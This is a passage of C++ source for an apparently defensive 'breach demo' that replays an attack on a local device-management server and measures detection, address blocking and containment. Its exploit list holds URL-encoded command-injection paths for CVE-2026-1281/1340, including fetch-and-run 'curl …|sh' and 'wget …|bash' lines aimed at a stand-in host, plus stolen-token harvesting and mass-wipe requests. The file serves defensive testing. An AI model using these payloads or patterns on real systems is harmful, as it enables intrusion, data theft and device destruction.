#include "server/demo_breach.h"

#include <sys/stat.h>
#include <unistd.h>

#include <algorithm>
#include <atomic>
#include <cctype>
#include <chrono>
#include <cstdio>
#include <cstdlib>
#include <filesystem>
#include <fstream>
#include <functional>
#include <iostream>
#include <map>
#include <mutex>
#include <nlohmann/json.hpp>
#include <optional>
#include <set>
#include <sstream>
#include <thread>

#include "audit/format.h"
#include "audit/verify.h"
#include "common/clock.h"
#include "common/config.h"
#include "common/status.h"
#include "http/client.h"
#include "server/child_process.h"

namespace rampart::server {
namespace {

namespace fs = std::filesystem;
using nlohmann::json;
using SteadyClock = std::chrono::steady_clock;
using std::chrono::milliseconds;
using std::chrono::seconds;

// Bundled rule ids (rules/sigma/) whose alerts the replay looks for.
constexpr std::string_view kFobInjectionRule = "3b672e5c-3104-49c7-bfeb-7d14e1035b40";
constexpr std::string_view kFob404Rule = "3fe778f1-3ab5-4259-b9c3-e2e3a80fc417";
constexpr std::string_view kCanaryReadRule = "5d0f6c1e-8a43-4f6b-9a51-2f1c7e0b9d11";
constexpr std::string_view kBulkReadRule = "9a7d3f0e-2b1c-4d5e-8f60-71a2b3c4d5e6";
constexpr std::string_view kWipeStormRule = "7b8c9d0e-1f2a-4b3c-9d4e-5f6a7b8c9d0e";

// Staff member 0 of each institution is in this department, so its canaries are too (canaries
// are shaped like the institution's first member); the attacker harvests it first.
constexpr const char* kTargetDepartment = "Security";

// How long the attacker keeps trying after the keeper first refused it.
constexpr auto kPersistence = seconds(3);

// The server answers a limited number of requests per connection per second, so bulk work
// goes over several connections, as any real client's would.
constexpr int kWorkers = 4;

// Command states in which a device has been handed the command (a command that expired or was
// canceled after delivery still has its sent_at).
const std::set<std::string> kDeliveredStates = {"sent", "acknowledged", "error", "not_now",
                                                "rejected"};

void Progress(const std::string& line) {
  std::cerr << "breach: " << line << std::endl;
}

double SecondsSince(SteadyClock::time_point t) {
  return std::chrono::duration<double>(SteadyClock::now() - t).count();
}

double Round3(double v) {
  return static_cast<double>(static_cast<int64_t>(v * 1000.0 + 0.5)) / 1000.0;
}

// A duration the server computed in milliseconds, exact as the reports print it: "0.84 s (840
// ms)", "0.001 s (1 ms)"; "unknown" for -1.
std::string MillisText(int64_t ms) {
  if (ms < 0) return "unknown";
  std::string fraction = ms % 1000 == 0 ? "" : "." + std::to_string(1000 + ms % 1000).substr(1);
  while (!fraction.empty() && fraction.back() == '0') fraction.pop_back();
  return std::to_string(ms / 1000) + fraction + " s (" + std::to_string(ms) + " ms)";
}

// A time as the API renders it, "2026-01-30T09:15:00Z" (FormatRfc3339), or "" for null. The
// form has a fixed width, so these strings order like the times they name.
std::string TimeText(const json& v) {
  return v.is_string() ? v.get<std::string>() : std::string();
}

struct Endpoint {
  std::string url;
  std::string ca_file;
  std::string local_address;  // the source address to connect from; empty: any
};

// The attacker connects from its own loopback addresses, so that the server (and the
// containment that blocks an address) tells it apart from the fleet and the defender on
// 127.0.0.1. The exploit's address gets blocked at the front door, so the stolen token is used
// from another one, as attackers rotate their infrastructure.
constexpr char kExploitAddress[] = "127.0.0.66";
constexpr char kAttackerAddress[] = "127.0.0.67";

// The bundled playbooks (rules/playbooks/) the replay expects to see at work.
constexpr std::string_view kBlockScenario = "rampart/epmm-exploit-block";

// Report kinds of GET /api/v1/incidents/{id}/reports/{kind} (docs/incidents.md).
constexpr const char* kReportKinds[] = {"early-warning", "notification", "final",
                                        "personal-data-breach", "stix"};

// How long the replay waits for the playbooks to act and the incidents to show it.
constexpr auto kContainmentDeadline = seconds(60);

struct Reply {
  int status = 0;
  json body;
  std::string text;
};

// One keep-alive HTTPS connection pinned to the server's CA, with one bearer token (or none).
class Session {
 public:
  static Result<Session> Open(const Endpoint& ep, std::string token) {
    RAMPART_ASSIGN_OR_RETURN(
        auto client,
        http::HttpClient::Connect(
            {.url = ep.url, .ca_file = ep.ca_file, .local_address = ep.local_address}));
    return Session(std::move(client), std::move(token));
  }

  Result<Reply> Call(const std::string& method, const std::string& target,
                     const json& body = nullptr) {
    http::HeaderList headers;
    if (!token_.empty()) headers.emplace_back("authorization", "Bearer " + token_);
    std::string payload;
    if (!body.is_null()) {
      payload = body.dump();
      headers.emplace_back("content-type", "application/json");
    }
    for (int attempt = 0;; ++attempt) {
      RAMPART_ASSIGN_OR_RETURN(auto r, client_->Send(method, target, headers, payload));
      Reply reply;
      reply.status = r.status;
      reply.body = json::parse(r.body, nullptr, false);
      reply.text = std::move(r.body);
      // The front door's per-connection rate limit asks every client, attacker included, to
      // slow down; the keeper's budget (also 429) is an answer the replay reports.
      if (reply.status == 429 && attempt < 200 &&
          ErrorMessage(reply).find("on this connection") != std::string::npos) {
        std::this_thread::sleep_for(milliseconds(50));
        continue;
      }
      return reply;
    }
  }

  static std::string ErrorMessage(const Reply& r) {
    if (!r.body.is_object() || !r.body.contains("error") || !r.body["error"].is_object()) return "";
    const json& m = r.body["error"]["message"];
    return m.is_string() ? m.get<std::string>() : "";
  }

  // A call that must answer `expected`; anything else is an error naming the request.
  Result<json> Expect(int expected, const std::string& method, const std::string& target,
                      const json& body = nullptr) {
    RAMPART_ASSIGN_OR_RETURN(Reply r, Call(method, target, body));
    if (r.status != expected) {
      std::string why = ErrorMessage(r);
      return Status::Internal(method + " " + target.substr(0, target.find('?')) + " answered " +
                              std::to_string(r.status) + (why.empty() ? "" : ": " + why));
    }
    return std::move(r.body);
  }

  // Every item of a paginated list. With `refused`, a page answered other than 200 ends the
  // list there and its status is stored (an attacker's token may be refused midway); without,
  // it is an error.
  Result<std::vector<json>> ListAll(const std::string& target, int* refused = nullptr) {
    std::vector<json> items;
    std::string cursor;
    const char sep = target.find('?') == std::string::npos ? '?' : '&';
    for (;;) {
      std::string page = target + sep + "limit=500" + (cursor.empty() ? "" : "&cursor=" + cursor);
      json body;
      if (refused != nullptr) {
        RAMPART_ASSIGN_OR_RETURN(Reply r, Call("GET", page));
        if (r.status != 200) {
          *refused = r.status;
          return items;
        }
        body = std::move(r.body);
      } else {
        RAMPART_ASSIGN_OR_RETURN(body, Expect(200, "GET", page));
      }
      for (auto& item : body["items"]) items.push_back(std::move(item));
      if (!body["next_cursor"].is_string()) return items;
      cursor = body["next_cursor"].get<std::string>();
    }
  }

 private:
  Session(std::unique_ptr<http::HttpClient> c, std::string token)
      : client_(std::move(c)), token_(std::move(token)) {}
  std::unique_ptr<http::HttpClient> client_;
  std::string token_;
};

// Runs fn(session, i) for every i in [0, n) over `workers` connections; the first error wins.
Status ForEachParallel(const Endpoint& ep, const std::string& token, size_t n, int workers,
                       const std::function<Status(Session&, size_t)>& fn) {
  std::atomic<size_t> next{0};
  std::mutex mu;
  Status first = Status::Ok();
  std::vector<std::thread> threads;
  for (int w = 0; w < workers; ++w) {
    threads.emplace_back([&] {
      auto session = Session::Open(ep, token);
      if (!session.ok()) {
        std::lock_guard lock(mu);
        if (first.ok()) first = session.status();
        return;
      }
      for (size_t i; (i = next.fetch_add(1)) < n;) {
        Status s = fn(*session, i);
        if (!s.ok()) {
          std::lock_guard lock(mu);
          if (first.ok()) first = s;
          next = n;
          return;
        }
      }
    });
  }
  for (auto& t : threads) t.join();
  return first;
}

// ---------------------------------------------------------------------------------------------
// Standing the server and the fleet up.

struct Institution {
  std::string id;
  std::string name;
  std::string enrollment_token;
  int64_t staff = 0;
  int64_t devices = 0;
  std::unique_ptr<ChildProcess> fleet;
  json fleet_summary;  // what `rampart-agent simulate --json` printed when stopped
};

struct Figures {
  json setup = json::object();
  json exploits = json::object();
  json detection = json::object();
  json stolen_token = json::object();
  json staff_read = json::object();
  json wipe = json::object();
  json containment = json::object();
  json incidents = json::array();
  json alerts = json::array();
  json audit = json::object();
};

json StaffBody(const Institution& inst, int64_t i, int inst_no) {
  static constexpr const char* kFirst[] = {"Anna",   "Luc",   "Sofia", "Jan",  "Marie",
                                           "Pieter", "Elena", "Mateo", "Ines", "Lars"};
  static constexpr const char* kLast[] = {"Peeters", "Janssens", "Rossi",  "Novak", "Dubois",
                                          "Muller",  "Garcia",   "Jensen", "Silva", "Berg"};
  static constexpr const char* kDepartments[] = {"DG HR", "Legal Service", "Finance", "DG DIGIT",
                                                 "Communication"};
  std::string first = kFirst[i % 10];
  std::string last = kLast[(i / 10) % 10];
  std::string lower = first + "." + last;
  std::transform(lower.begin(), lower.end(), lower.begin(),
                 [](unsigned char c) { return static_cast<char>(std::tolower(c)); });
  char mobile[32];
  std::snprintf(mobile, sizeof mobile, "+32 47%d %06lld", inst_no, static_cast<long long>(i));
  return json{{"institution_id", inst.id},
              {"name", first + " " + last},
              {"mobile", mobile},
              {"email",
               lower + "." + std::to_string(i) + "@inst" + std::to_string(inst_no) + ".example.eu"},
              {"department", i % 7 == 0 ? kTargetDepartment : kDepartments[i % 5]}};
}

// The check-in interval of the simulated fleet: 100 check-ins a second per 1,000 devices, and
// at least every 10 s so the replay waits little for the devices' next check-in.
double FleetInterval(int64_t devices) {
  return std::clamp(static_cast<double>(devices) / 100.0, 2.0, 10.0);
}

Result<int64_t> CheckinsTotal(Session& defender) {
  RAMPART_ASSIGN_OR_RETURN(Reply r, defender.Call("GET", "/metrics"));
  if (r.status != 200) return Status::Internal("GET /metrics answered " + std::to_string(r.status));
  const std::string name = "\nrampart_checkins_total ";
  auto at = r.text.find(name);
  if (at == std::string::npos) return int64_t{0};
  return std::strtoll(r.text.c_str() + at + name.size(), nullptr, 10);
}

// ---------------------------------------------------------------------------------------------
// The attack.

// CVE-2026-1281 (appstore) and CVE-2026-1340 (aftstore) in the shape seen in the wild, then the
// post-exploitation requests that follow a successful one (webshell, staged dump).
const std::vector<std::string>& ExploitRequests() {
  static const std::vector<std::string> kRequests = {
      "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,"
      "h=gPath%5B%60id%60%5D/e2327851-1e09-4463-9b5a-b524bc71fc07.ipa",
      "/mifs/c/appstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,"
      "h=gPath%5B%60curl%20-s%20http%3A%2F%2F198.51.100.9%2Fx%7Csh%60%5D/"
      "0f8fad5b-d9cb-469f-a165-70867728950e.ipa",
      "/mifs/c/aftstore/fob/3/5/sha256:kid=1,st=%24%28%281%2B1%29%29,et=1337133713,h=00/a.apk",
      "/mifs/c/aftstore/fob/3/5/sha256:kid=1,st=theValue%20%20,et=1337133713,"
      "h=gPath%5B%60wget%20-qO-%20http%3A%2F%2F198.51.100.9%2Fy%7Cbash%60%5D/b.apk",
      "/mifs/403.jsp?k0f53cf964d387=yv66vgAAADQAHgoABgAR",
      "/mifs/css/mibasecss.css",
  };
  return kRequests;
}

struct Harvest {
  std::set<std::string> ids;  // what the attacker got back in clear
  int64_t answered = 0;       // 200 with clear values
  int64_t refused = 0;        // 429: the keeper's budget
  std::map<std::string, int64_t> other;
  std::optional<SteadyClock::time_point> first_refusal;
};

// Pages through `base` with ?reveal=true. On 429 a persistent attacker asks for fewer records
// at a time and keeps trying for kPersistence. False once it has given up.
Result<bool> HarvestPass(Session& attacker, const std::string& base, Harvest* h) {
  std::string cursor;
  int limit = 100;
  for (;;) {
    std::string target =
        base + "&limit=" + std::to_string(limit) + (cursor.empty() ? "" : "&cursor=" + cursor);
    RAMPART_ASSIGN_OR_RETURN(Reply r, attacker.Call("GET", target));
    if (r.status == 200) {
      ++h->answered;
      for (const auto& item : r.body["items"]) {
        if (item.value("revealed", false)) h->ids.insert(item.value("id", std::string()));
      }
      if (!r.body["next_cursor"].is_string()) return true;
      cursor = r.body["next_cursor"].get<std::string>();
      continue;
    }
    if (r.status != 429) {
      ++h->other[std::to_string(r.status)];
      return false;
    }
    ++h->refused;
    if (!h->first_refusal) h->first_refusal = SteadyClock::now();
    if (SteadyClock::now() - *h->first_refusal > kPersistence) return false;
    if (limit > 1) {
      limit /= 2;
    } else {
      std::this_thread::sleep_for(milliseconds(250));
    }
  }
}

// ---------------------------------------------------------------------------------------------

class BreachDemo {
 public:
  explicit BreachDemo(const BreachDemoOptions& o) : options_(o) {}
  ~BreachDemo() { Cleanup(); }

  Status Run() {
    started_ = SteadyClock::now();
    RAMPART_RETURN_IF_ERROR(PrepareDirectories());
    RAMPART_RETURN_IF_ERROR(StartServer());
    RAMPART_RETURN_IF_ERROR(CreateInstitutions());
    RAMPART_RETURN_IF_ERROR(StartFleet());
    RAMPART_RETURN_IF_ERROR(PlayExploits());
    RAMPART_RETURN_IF_ERROR(WaitForBlock());
    RAMPART_RETURN_IF_ERROR(ListDevicesAsAttacker());
    RAMPART_RETURN_IF_ERROR(PlayHarvest());
    RAMPART_RETURN_IF_ERROR(PlayWipe());
    RAMPART_RETURN_IF_ERROR(WaitForContainment());
    RAMPART_RETURN_IF_ERROR(WaitForFleetAfterWipe());
    RAMPART_RETURN_IF_ERROR(StopFleet());
    RAMPART_RETURN_IF_ERROR(ReadCommandStates());
    RAMPART_RETURN_IF_ERROR(ReadAlerts());
    RAMPART_RETURN_IF_ERROR(ReadIncidents());
    RAMPART_RETURN_IF_ERROR(StopServer());
    RAMPART_RETURN_IF_ERROR(ReadAuditLog());
    return Status::Ok();
  }

  json Summary() const {
    json out = {{"sizes",
                 {{"institutions", institutions_.size()},
                  {"staff", options_.staff},
                  {"devices", options_.devices}}},
                {"setup", figures_.setup},
                {"exploits", figures_.exploits},
                {"detection", figures_.detection},
                {"stolen_token", figures_.stolen_token},
                {"staff_read", figures_.staff_read},
                {"wipe", figures_.wipe},
                {"containment", figures_.containment},
                {"incidents", figures_.incidents},
                {"reports_dir", reports_dir_},
                {"alerts", figures_.alerts},
                {"audit", figures_.audit},
                {"duration_seconds", Round3(SecondsSince(started_))}};
    json insts = json::array();
    for (const auto& i : institutions_) {
      insts.push_back({{"id", i.id}, {"name", i.name}, {"staff", i.staff}, {"devices", i.devices}});
    }
    out["institutions"] = std::move(insts);
    if (options_.keep) out["work_dir"] = work_dir_;
    return out;
  }

 private:
  Status PrepareDirectories() {
    std::string base = fs::temp_directory_path().string() + "/rampart-breach-XXXXXX";
    if (::mkdtemp(base.data()) == nullptr) {
      return Status::Internal("cannot create a temporary directory");
    }
    work_dir_ = base;
    if (options_.data_dir.empty()) {
      data_dir_ = work_dir_ + "/data";
    } else {
      std::error_code ec;
      if (fs::exists(options_.data_dir, ec) && !fs::is_empty(options_.data_dir, ec)) {
        return Status::InvalidArgument("--data " + options_.data_dir +
                                       " is not empty: the replay needs a fresh server");
      }
      data_dir_ = fs::absolute(options_.data_dir).string();
    }
    if (!options_.reports_dir.empty()) {
      reports_dir_ = fs::absolute(options_.reports_dir).string();
    } else if (options_.keep || options_.data_dir.empty()) {
      reports_dir_ = work_dir_ + "/reports";
    } else {
      reports_dir_ = (fs::path(data_dir_).parent_path() / "reports").string();
    }
    // The configuration below leaves the keeper's budgets at their defaults: the stolen admin
    // token meets the limit every installation has.
    budget_per_minute_ = Config{}.keeper.budget_admin;
    // A quiet server log: the replay reads everything it reports through the API and the audit
    // log, and 2,000 devices checking in at info level only cost disk.
    std::ofstream config(work_dir_ + "/rampart.yml");
    config << "log_level: warn\n";
    if (!config) return Status::Internal("cannot write the demo configuration");
    RAMPART_ASSIGN_OR_RETURN(bin_dir_, OwnBinaryDir());
    for (const char* name : {"rampart", "rampart-agent"}) {
      if (::access((bin_dir_ + "/" + name).c_str(), X_OK) != 0) {
        return Status::NotFound(std::string(name) + " is not in " + bin_dir_ +
                                ": the replay runs the binaries built beside this one");
      }
    }
    return Status::Ok();
  }

  Status StartServer() {
    const std::string rampart = bin_dir_ + "/rampart";
    // The defender's superadmin token, minted on the data directory before the server opens it,
    // exactly as an operator would.
    RAMPART_ASSIGN_OR_RETURN(
        auto admin, ChildProcess::Start(
                        {rampart, "admin", "--data", data_dir_, "token", "create", "--role",
                         "superadmin", "--name", "breach demo defender", "--expires-in", "86400"},
                        work_dir_ + "/admin.log"));
    RAMPART_ASSIGN_OR_RETURN(int code, admin->Finish(false, seconds(60)));
    std::string token = admin->printed();
    while (!token.empty() && (token.back() == '\n' || token.back() == '\r')) token.pop_back();
    if (code != 0 || token.empty()) {
      return Status::Internal("rampart admin token create failed (see " + work_dir_ +
                              "/admin.log)");
    }
    defender_token_ = token;

    RAMPART_ASSIGN_OR_RETURN(
        server_, ChildProcess::Start({rampart, "serve", "--data", data_dir_, "--listen",
                                      "127.0.0.1:0", "--config", work_dir_ + "/rampart.yml"},
                                     work_dir_ + "/server.log"));
    auto url = server_->ReadLineStartingWith("rampart listening on ", seconds(60));
    if (!url.ok()) {
      return Status::Unavailable("the server did not start (see " + work_dir_ + "/server.log)");
    }
    endpoint_ = {*url, data_dir_ + "/tls/ca.pem", ""};
    exploit_endpoint_ = {*url, data_dir_ + "/tls/ca.pem", kExploitAddress};
    attacker_endpoint_ = {*url, data_dir_ + "/tls/ca.pem", kAttackerAddress};
    Progress("server up at " + endpoint_.url);
    return Status::Ok();
  }

  Status CreateInstitutions() {
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    const int64_t per_staff[2] = {options_.staff - options_.staff / 2, options_.staff / 2};
    const int64_t per_device[2] = {options_.devices - options_.devices / 2, options_.devices / 2};
    const char* names[2] = {"Directorate A", "Directorate B"};
    for (int n = 0; n < 2; ++n) {
      RAMPART_ASSIGN_OR_RETURN(
          json inst, defender.Expect(201, "POST", "/api/v1/institutions", {{"name", names[n]}}));
      Institution i;
      i.id = inst["id"];
      i.name = names[n];
      i.staff = per_staff[n];
      i.devices = per_device[n];
      institutions_.push_back(std::move(i));
    }
    auto t = SteadyClock::now();
    // Member 0 first, alone: it brings the institution's canaries.
    for (int n = 0; n < 2; ++n) {
      if (institutions_[n].staff < 1) continue;
      RAMPART_RETURN_IF_ERROR(
          defender.Expect(201, "POST", "/api/v1/staff", StaffBody(institutions_[n], 0, n))
              .status());
    }
    std::vector<std::pair<int, int64_t>> rest;
    for (int n = 0; n < 2; ++n) {
      for (int64_t i = 1; i < institutions_[n].staff; ++i) rest.emplace_back(n, i);
    }
    RAMPART_RETURN_IF_ERROR(ForEachParallel(
        endpoint_, defender_token_, rest.size(), kWorkers, [&](Session& s, size_t k) {
          auto [n, i] = rest[k];
          return s.Expect(201, "POST", "/api/v1/staff", StaffBody(institutions_[n], i, n)).status();
        }));
    figures_.setup["staff_seconds"] = Round3(SecondsSince(t));
    Progress("created " + std::to_string(options_.staff) + " staff in " +
             std::to_string(SecondsSince(t)) + " s");

    for (auto& inst : institutions_) {
      if (inst.devices < 1) continue;
      RAMPART_ASSIGN_OR_RETURN(json enr, defender.Expect(201, "POST", "/api/v1/enrollment-tokens",
                                                         {{"institution_id", inst.id},
                                                          {"max_uses", inst.devices},
                                                          {"expires_in_seconds", 86400}}));
      inst.enrollment_token = enr["token"];
    }
    // The token the attacker will steal: an ordinary admin of Directorate A.
    RAMPART_ASSIGN_OR_RETURN(json stolen, defender.Expect(201, "POST", "/api/v1/tokens",
                                                          {{"name", "directorate A operations"},
                                                           {"role", "admin"},
                                                           {"institution_id", institutions_[0].id},
                                                           {"expires_in_seconds", 86400}}));
    stolen_token_ = stolen["token"];
    stolen_token_id_ = stolen["id"];
    figures_.stolen_token = {{"id", stolen_token_id_},
                             {"role", "admin"},
                             {"institution_id", institutions_[0].id},
                             {"decrypt_budget_per_minute", budget_per_minute_}};
    return Status::Ok();
  }

  Status StartFleet() {
    const std::string agent = bin_dir_ + "/rampart-agent";
    fleet_interval_ = FleetInterval(options_.devices);
    char interval[32];
    std::snprintf(interval, sizeof interval, "%.1f", fleet_interval_);
    auto t = SteadyClock::now();
    int seed = 1;
    for (auto& inst : institutions_) {
      if (inst.devices < 1) continue;
      RAMPART_ASSIGN_OR_RETURN(
          inst.fleet, ChildProcess::Start({agent, "simulate", "--server", endpoint_.url, "--ca",
                                           endpoint_.ca_file, "--token", inst.enrollment_token,
                                           "--devices", std::to_string(inst.devices), "--interval",
                                           interval, "--duration", "3600", "--connections", "16",
                                           "--seed", std::to_string(seed++), "--json"},
                                          work_dir_ + "/fleet-" + inst.id + ".log"));
    }
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    // Enrolled: the server lists every device. Checked in: it has answered as many check-ins
    // as there are devices (the simulator spreads first check-ins over one interval).
    auto deadline = SteadyClock::now() + seconds(120) + seconds(options_.devices / 20);
    double enrolled_at = -1, checked_in_at = -1;
    int64_t enrolled = 0, checkins = 0;
    while (SteadyClock::now() < deadline && checked_in_at < 0) {
      for (auto& inst : institutions_) {
        if (inst.fleet && !inst.fleet->Running()) {
          return Status::Unavailable("the simulated fleet of " + inst.name + " stopped (see " +
                                     work_dir_ + "/fleet-" + inst.id + ".log)");
        }
      }
      if (enrolled_at < 0) {
        RAMPART_ASSIGN_OR_RETURN(auto devices, defender.ListAll("/api/v1/devices"));
        enrolled = static_cast<int64_t>(devices.size());
        if (enrolled >= options_.devices) enrolled_at = SecondsSince(t);
      }
      RAMPART_ASSIGN_OR_RETURN(checkins, CheckinsTotal(defender));
      if (enrolled_at >= 0 && checkins >= options_.devices) checked_in_at = SecondsSince(t);
      if (checked_in_at < 0) std::this_thread::sleep_for(milliseconds(100));
    }
    if (checked_in_at < 0) {
      return Status::Unavailable("the fleet did not come up: " + std::to_string(enrolled) +
                                 " enrolled, " + std::to_string(checkins) + " check-ins (see " +
                                 work_dir_ + "/fleet-*.log)");
    }
    figures_.setup["enroll_seconds"] = Round3(enrolled_at);
    figures_.setup["first_checkins_seconds"] = Round3(checked_in_at);
    figures_.setup["fleet_interval_seconds"] = fleet_interval_;
    Progress(std::to_string(options_.devices) + " devices enrolled in " +
             std::to_string(enrolled_at) + " s, checked in by " + std::to_string(checked_in_at) +
             " s");
    return Status::Ok();
  }

  Status PlayExploits() {
    RAMPART_ASSIGN_OR_RETURN(auto attacker, Session::Open(exploit_endpoint_, ""));
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    json requests = json::array();
    int64_t refused = 0, succeeded = 0, cut = 0;
    const int64_t sent_unix_ms = SystemClock::Instance().NowMillis();
    const auto sent = SteadyClock::now();
    exploit_sent_ = sent;
    for (const auto& target : ExploitRequests()) {
      // Once the playbook has blocked the address, the server may drop the connection: the
      // request then has no answer (status 0), which is a refusal too.
      auto r = attacker.Call("GET", target);
      const int status = r.ok() ? r->status : 0;
      requests.push_back({{"target", target}, {"status", status}});
      if (status >= 400 && status < 500) ++refused;
      if (status >= 200 && status < 300) ++succeeded;
      if (!r.ok()) {
        ++cut;
        break;
      }
    }
    figures_.exploits = {{"source_address", kExploitAddress},
                         {"requests", std::move(requests)},
                         {"refused_4xx", refused},
                         {"unanswered", cut},
                         {"answered_2xx", succeeded},
                         {"first_sent_at_unix_ms", sent_unix_ms}};
    // The first alert the server stores for them, as GET /api/v1/alerts shows it.
    auto deadline = sent + seconds(30);
    while (SteadyClock::now() < deadline) {
      RAMPART_ASSIGN_OR_RETURN(json page, defender.Expect(200, "GET", "/api/v1/alerts?limit=500"));
      for (const auto& a : page["items"]) {
        std::string rule = a.value("rule", std::string());
        if (rule == kFobInjectionRule || rule == kFob404Rule) {
          double ms = std::chrono::duration<double, std::milli>(SteadyClock::now() - sent).count();
          figures_.detection = {{"first_alert_id", a["id"]},
                                {"first_alert_rule", rule},
                                {"first_alert_title", a["title"]},
                                {"first_alert_first_seen", a["first_seen"]},
                                {"exploit_to_alert_visible_ms", Round3(ms)}};
          Progress("first exploit alert visible after " + std::to_string(ms) + " ms");
          return Status::Ok();
        }
      }
      std::this_thread::sleep_for(milliseconds(5));
    }
    figures_.detection = {{"first_alert_id", nullptr}, {"exploit_to_alert_visible_ms", nullptr}};
    Progress("no exploit alert within 30 s");
    return Status::Ok();
  }

  // The exploit alert makes the bundled playbook block the source address for a day: wait for
  // the block in GET /api/v1/blocks, then check that a connection from that address fails.
  Status WaitForBlock() {
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    json block;
    auto deadline = SteadyClock::now() + kContainmentDeadline;
    while (block.is_null() && SteadyClock::now() < deadline) {
      RAMPART_ASSIGN_OR_RETURN(auto blocks, defender.ListAll("/api/v1/blocks"));
      for (const auto& b : blocks) {
        if (b.value("value", std::string()) == kExploitAddress) block = b;
      }
      if (block.is_null()) std::this_thread::sleep_for(milliseconds(20));
    }
    json& out = figures_.containment["exploit_address"];
    out = {{"address", kExploitAddress}, {"blocked", !block.is_null()}};
    if (block.is_null()) {
      Progress(std::string("no block of ") + kExploitAddress + " within the deadline");
      return Status::Ok();
    }
    const double ms =
        std::chrono::duration<double, std::milli>(SteadyClock::now() - exploit_sent_).count();
    out["block_id"] = block["id"];
    out["origin"] = block["origin"];
    out["scenario"] = block["scenario"];
    out["duration_seconds"] =
        block.value("expires_at", int64_t{0}) - block.value("created_at", int64_t{0});
    out["exploit_to_block_visible_ms"] = Round3(ms);
    // A fresh connection from the blocked address: the front door closes it before the TLS
    // handshake completes, so no request is ever parsed.
    std::string outcome;
    auto probe = Session::Open(exploit_endpoint_, "");
    if (probe.ok()) {
      auto r = probe->Call("GET", "/healthz");
      outcome = r.ok() ? "answered " + std::to_string(r->status) : r.status().message();
      out["connection_refused"] = !r.ok();
    } else {
      outcome = probe.status().message();
      out["connection_refused"] = true;
    }
    out["connection_outcome"] = outcome;
    Progress(std::string(kExploitAddress) + " blocked after " + std::to_string(ms) +
             " ms; a new connection from it: " + outcome);
    return Status::Ok();
  }

  // With the stolen token, from its new address, the attacker first looks around: the device
  // list (a read, which the token allows) gives it the ids to push the wipe to later.
  Status ListDevicesAsAttacker() {
    RAMPART_ASSIGN_OR_RETURN(auto attacker, Session::Open(attacker_endpoint_, stolen_token_));
    RAMPART_ASSIGN_OR_RETURN(attacker_devices_,
                             attacker.ListAll("/api/v1/devices", &device_list_refused_));
    return Status::Ok();
  }

  Status PlayHarvest() {
    RAMPART_ASSIGN_OR_RETURN(auto attacker, Session::Open(attacker_endpoint_, stolen_token_));
    auto t = SteadyClock::now();
    harvest_started_ = t;
    // First a try at the other institution: the token is Directorate A's, so the server
    // answers from A's directory whatever institution_id says.
    int64_t cross = 0, cross_records = 0;
    if (institutions_.size() > 1) {
      RAMPART_ASSIGN_OR_RETURN(
          Reply r, attacker.Call("GET", "/api/v1/staff?reveal=true&limit=10&institution_id=" +
                                            institutions_[1].id));
      cross = r.status;
      if (r.status == 200) {
        ++harvest_.answered;
        for (const auto& item : r.body["items"]) {
          if (item.value("institution_id", std::string()) == institutions_[1].id) ++cross_records;
          if (item.value("revealed", false)) harvest_.ids.insert(item.value("id", std::string()));
        }
      }
    }
    std::string department = "/api/v1/staff?reveal=true&department=";
    for (const char* c = kTargetDepartment; *c != '\0'; ++c) {
      department += *c == ' ' ? std::string("%20") : std::string(1, *c);
    }
    RAMPART_ASSIGN_OR_RETURN(bool going_on, HarvestPass(attacker, department, &harvest_));
    if (going_on) {
      RAMPART_RETURN_IF_ERROR(
          HarvestPass(attacker, "/api/v1/staff?reveal=true", &harvest_).status());
    }
    json other = json::object();
    for (const auto& [k, v] : harvest_.other) other[k] = v;
    figures_.staff_read["attacker_view"] = {
        {"records", harvest_.ids.size()},    {"pages_answered", harvest_.answered},
        {"refused_429", harvest_.refused},   {"other_statuses", other},
        {"other_institution_status", cross}, {"other_institution_records", cross_records},
        {"seconds", Round3(SecondsSince(t))}};
    Progress("stolen token got " + std::to_string(harvest_.ids.size()) + " records in clear, " +
             std::to_string(harvest_.refused) + " requests refused with 429");
    return Status::Ok();
  }

  Status PlayWipe() {
    RAMPART_ASSIGN_OR_RETURN(auto attacker, Session::Open(attacker_endpoint_, stolen_token_));
    const std::vector<json>& devices = attacker_devices_;
    std::mutex mu;
    std::map<std::string, int64_t> statuses, states;
    std::vector<std::string> command_ids;
    auto t = SteadyClock::now();
    Status pushed = ForEachParallel(
        attacker_endpoint_, stolen_token_, devices.size(), kWorkers,
        [&](Session& s, size_t i) -> Status {
          std::string id = devices[i].value("id", std::string());
          RAMPART_ASSIGN_OR_RETURN(
              Reply r, s.Call("POST", "/api/v1/devices/" + id + "/commands", {{"type", "wipe"}}));
          std::lock_guard lock(mu);
          ++statuses[std::to_string(r.status)];
          if (r.status == 201) {
            ++states[r.body.value("state", std::string("?"))];
            command_ids.push_back(r.body.value("id", std::string()));
            latest_attack_command_ =
                std::max(latest_attack_command_, TimeText(r.body["created_at"]));
          }
          return Status::Ok();
        });
    RAMPART_RETURN_IF_ERROR(pushed);
    double push_seconds = SecondsSince(t);
    // Four eyes: the same stolen token cannot be the second admin.
    int64_t approve_status = 0;
    if (!command_ids.empty()) {
      RAMPART_ASSIGN_OR_RETURN(
          Reply r, attacker.Call("POST", "/api/v1/commands/" + command_ids.front() + "/approve"));
      approve_status = r.status;
    }
    json st = json::object(), sa = json::object();
    for (const auto& [k, v] : statuses) st[k] = v;
    for (const auto& [k, v] : states) sa[k] = v;
    figures_.wipe["attempt"] = {{"devices_targeted", devices.size()},
                                {"device_list_refused_status", device_list_refused_},
                                {"http_statuses", st},
                                {"states_when_created", sa},
                                {"self_approval_status", approve_status},
                                {"seconds", Round3(push_seconds)}};
    Progress("wipe pushed to " + std::to_string(devices.size()) + " devices in " +
             std::to_string(push_seconds) + " s; self-approval answered " +
             std::to_string(approve_status));
    return Status::Ok();
  }

  // The canary read and the bulk read make the bundled playbook revoke every session and token
  // of the principal and put its institution in lockdown: wait (with a deadline) until the
  // stolen token answers 401 and the institution's lockdown shows.
  Status WaitForContainment() {
    RAMPART_ASSIGN_OR_RETURN(auto defender, Session::Open(endpoint_, defender_token_));
    RAMPART_ASSIGN_OR_RETURN(auto attacker, Session::Open(attacker_endpoint_, stolen_token_));
